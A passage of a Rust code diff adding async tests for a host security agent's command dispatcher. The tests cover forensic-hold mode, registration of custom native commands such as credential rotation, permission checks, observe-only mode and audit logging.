+        let reopened = ForensicMode::open(config, &state_path, ShutdownToken::new())?;
+        assert!(reopened.is_active().await);
+
+        let result = dispatcher
+            .dispatch(&usb_key, Some(&mut investigator), "END_FORENSICS")
+            .await;
+        assert!(result.is_success(), "{}", result.human_message);
+        assert!(!state_path.exists());
+        assert!(forensics.monitor().await.is_none());
+        let result = dispatcher
+            .dispatch(&usb_key, Some(&mut operator), "BLOCK_NETWORK")
+            .await;
+        assert!(result.is_success(), "{}", result.human_message);
+        assert!(marker.exists());
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records[0].command, "FORENSICS_STARTED");
+        assert_eq!(records[0].trigger.as_deref(), Some("FORENSICS"));
+        assert_eq!(records[1].code, ResultCode::ForensicHold);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_native_commands_are_dispatched_like_built_ins() -> Result<()> {
+        use observer::connector::HostSection;
+        use observer::handler::{ArgumentSpec, CommandSpec};
+        use observer::native::NativeCommand;
+        use observer::protocol::{parse_command, ParseError};
+
+        struct RotateCredentials;
+
+        #[async_trait::async_trait]
+        impl NativeCommand for RotateCredentials {
+            fn spec(&self) -> CommandSpec {
+                CommandSpec {
+                    arguments: vec![ArgumentSpec {
+                        name: "account".to_string(),
+                        kind: "string".to_string(),
+                        required: true,
+                        description: "Service account to rotate".to_string(),
+                    }],
+                    ..CommandSpec::new("ROTATE_CREDENTIALS", "Rotate a service account", true)
+                }
+            }
+
+            async fn run(&self, arguments: &[String]) -> CommandResult {
+                CommandResult::ok(
+                    format!("Rotated {}", arguments[0]),
+                    serde_json::json!({ "account": arguments[0] }),
+                )
+            }
+        }
+
+        struct CountSessions;
+
+        #[async_trait::async_trait]
+        impl NativeCommand for CountSessions {
+            fn spec(&self) -> CommandSpec {
+                CommandSpec::new("COUNT_SESSIONS", "Count user sessions", false)
+            }
+
+            fn read_only(&self) -> bool {
+                true
+            }
+
+            async fn run(&self, _arguments: &[String]) -> CommandResult {
+                CommandResult::ok("2 sessions", serde_json::json!({ "sessions": 2 }))
+            }
+        }
+
+        let state_dir = tempfile::tempdir()?;
+        let audit_path = state_dir.path().join("audit.jsonl");
+        let handler = || -> Result<CommandHandler> {
+            CommandHandler::new(state_dir.path().to_string_lossy().to_string())
+                .with_native_command(Arc::new(RotateCredentials))?
+                .with_native_command(Arc::new(CountSessions))
+        };
+        assert!(handler()?
+            .with_native_command(Arc::new(RotateCredentials))
+            .is_err());
+        let dispatcher = CommandDispatcher::new(handler()?, "host-a".to_string())
+            .with_audit_log(Arc::new(AuditLog::new(&audit_path)));
+
+        // Parsing validates the arguments against the spec of the dispatcher's command.
+        let native = dispatcher.native_commands();
+        assert_eq!(
+            parse_command(b"ROTATE_CREDENTIALS svc-backup", native)?.arguments,
+            vec!["svc-backup"]
+        );
+        assert!(matches!(
+            parse_command(b"ROTATE_CREDENTIALS", native),
+            Err(ParseError::MissingArgument { .. })
+        ));
+        // Other dispatchers do not know it.
+        let plain = CommandDispatcher::new(
+            CommandHandler::new(state_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        );
+        assert!(matches!(
+            parse_command(b"ROTATE_CREDENTIALS svc-backup", plain.native_commands()),
+            Err(ParseError::UnknownVerb(_))
+        ));
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        let result = dispatcher
+            .dispatch_raw(&usb_key, None, b"ROTATE_CREDENTIALS svc-backup\n")
+            .await;
+        assert_eq!(result.code, ResultCode::Ok);
+        assert_eq!(result.data["account"], "svc-backup");
+
+        // Host sections permit it like any other command.
+        let mut section = HostSection {
+            credential: "secret".to_string(),
+            allowed_commands: vec!["CHECK_STATUS".to_string()],
+            ..Default::default()
+        };
+        let refused = dispatcher
+            .dispatch_raw(
+                &usb_key,
+                Some(&mut section),
+                b"ROTATE_CREDENTIALS svc-backup",
+            )
+            .await;
+        assert_eq!(refused.code, ResultCode::CommandNotPermitted);
+
+        let listed = dispatcher
+            .dispatch(&usb_key, None, "LIST_COMMANDS")
+            .await
+            .data["commands"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|spec| spec["name"] == "ROTATE_CREDENTIALS")
+            .cloned()
+            .unwrap();
+        assert_eq!(listed["destructive"], true);
+        assert_eq!(listed["arguments"][0]["name"], "account");
+
+        // Only read-only commands run in observation mode.
+        let observer = CommandDispatcher::new(handler()?, "host-a".to_string())
+            .with_mode(EnforcementMode::Observe);
+        let observed = observer
+            .dispatch_raw(&usb_key, None, b"ROTATE_CREDENTIALS svc-backup")
+            .await;
+        assert_eq!(observed.code, ResultCode::Observed);
+        let counted = observer
+            .dispatch_raw(&usb_key, None, b"COUNT_SESSIONS")
+            .await;
+        assert_eq!(counted.code, ResultCode::Ok);
+        assert_eq!(counted.data["sessions"], 2);
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records[0].command, "ROTATE_CREDENTIALS svc-backup");
+        assert!(records[0].executed);
+        assert_eq!(records[1].code, ResultCode::CommandNotPermitted);
+        Ok(())
+    }
 }